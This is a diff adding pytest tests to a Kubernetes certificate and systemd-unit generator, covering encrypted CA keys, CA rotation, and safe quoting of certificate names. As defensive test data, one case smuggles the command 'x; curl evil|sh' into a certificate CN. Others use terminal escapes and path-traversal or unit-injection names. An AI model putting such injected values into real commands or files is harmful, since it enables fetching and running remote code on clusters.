@@ -9,7 +9,9 @@ import yaml
 
 from kbuild.pki.api import Units, make_units, plan_of
 from kbuild.pki.errors import NotForUnits
-from tests.unit.pki.conftest import KEY, Recipe
+from kbuild.pki.issuing import PASSWORD
+from tests.unit.pki.conftest import KEY, Recipe, issue
+from tests.unit.pki.test_rotating import rotate
 
 TOML = """\
 layout = "{layout}"
@@ -164,7 +166,7 @@ def test_files_of_cfssl_need_what_cfssl_does_not_tell(recipe: Recipe) -> None:
     assert "`--use service-account=NAME` names one" in told
     assert "`--cluster-signing-duration`: no lifetime was given with --signing-years." in told
     assert "/etc/kubernetes/pki/kube-proxy.kubeconfig" in told
-    assert "--clusterrole=system:kubelet-api-admin --user=flanneld" in told
+    assert "--clusterrole=system:kubelet-api-admin --user=flanneld`" in told
     assert flags(made, "kube-proxy") == {"kubeconfig": "/etc/kubernetes/pki/kube-proxy.kubeconfig"}
 
 
@@ -172,3 +174,78 @@ def test_files_of_cfssl_need_what_cfssl_does_not_tell(recipe: Recipe) -> None:
 def test_a_path_that_systemd_would_change_is_refused(tmp_path: Path, folder: str) -> None:
     with pytest.raises(NotForUnits):
         units(tmp_path, on_node=PurePosixPath(folder))
+
+
+def test_an_encrypted_key_of_a_ca_is_not_given_to_the_controller_manager(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    planned = units(tmp_path, more="encrypt-ca-keys = true")
+    monkeypatch.setenv(PASSWORD, "secret")
+    issue(tmp_path)
+    issued = units(tmp_path)  # what counts is the key that is there
+    for made in (planned, issued):
+        assert not [name for name in flags(made, "kube-controller-manager") if "signing" in name]
+        assert any("the key of ca is encrypted" in note and NEW in note for note in made.notes)
+
+
+def test_the_controller_manager_signs_with_one_certificate_during_a_rotation(
+    tmp_path: Path,
+) -> None:
+    more = 'key = "ecdsa-p256"'
+    units(tmp_path, more=more)
+    issue(tmp_path)
+    rotate(tmp_path, "begin", "etcd-ca")
+    assert not [note for note in units(tmp_path, more=more).notes if "replaced" in note]
+    for step in ("begin", "leaves"):
+        rotate(tmp_path, step, "ca")
+        made = units(tmp_path, more=more)
+        manager = flags(made, "kube-controller-manager")
+        assert manager["cluster-signing-cert-file"] == "/etc/kubernetes/pki/ca-signing.pem"
+        assert manager["root-ca-file"] == "/etc/kubernetes/pki/ca.pem"
+        [files] = [e.files for e in made.components if e.name == "kube-controller-manager"]
+        there = files["/etc/kubernetes/pki/ca-signing.pem"]
+        assert there == tmp_path / "pki/ca-signing.pem"
+        assert there.exists()
+        [note] = [note for note in made.notes if "replaced" in note]
+        assert "signs with ca-signing.pem" in note
+    rotate(tmp_path, "end", "ca")
+    manager = flags(units(tmp_path, more=more), "kube-controller-manager")
+    assert manager["cluster-signing-cert-file"] == "/etc/kubernetes/pki/ca.pem"
+
+
+@pytest.mark.parametrize(
+    ("name", "shown"),
+    [
+        ("kube client", "--user='kube client'`"),
+        ("x; curl evil|sh", "--user='x; curl evil|sh'`"),
+        ("x\n\n# Run this", ""),
+        ("x\x1b[2J", ""),
+        ("x` <b>", ""),
+        ("Söhne", ""),
+    ],
+)
+def test_a_user_of_any_name_is_safe_in_the_command(recipe: Recipe, name: str, shown: str) -> None:
+    recipe.change("client", CN=name)
+    uses = {"apiserver-kubelet-client": "client", "apiserver": "server"}
+    made = make_units(recipe.folder, "v1.20.2", certificates=uses)
+    [note] = [each for each in made.notes if each.startswith("Kubelets ask")]
+    readme = made.files[0].content
+    if shown:
+        assert shown in note
+        assert note.count(name) == note.count(f"`{name}`") + 1
+        assert f"`{name}`" in readme
+    else:
+        assert "the certificate client" in note
+        assert name not in readme + note
+        assert "\x1b" not in readme + note
+        assert "clusterrolebinding" not in note
+
+
+@pytest.mark.parametrize("name", ["../../x", "a\n[Service]", "/etc", "..", "", "a b"])
+def test_what_no_node_is_called_is_no_kubelet(recipe: Recipe, name: str) -> None:
+    recipe.change("client", CN=f"system:node:{name}", names=[{"O": "system:nodes"}])
+    made = make_units(recipe.folder, "v1.20.2")
+    assert "kubelet" not in {each.name for each in made.components}
+    recipe.change("client", CN="system:node:n1.example", names=[{"O": "system:nodes"}])
+    made = make_units(recipe.folder, "v1.20.2")
+    assert "nodes/n1.example/kubelet-config.yaml" in {each.name for each in made.files}
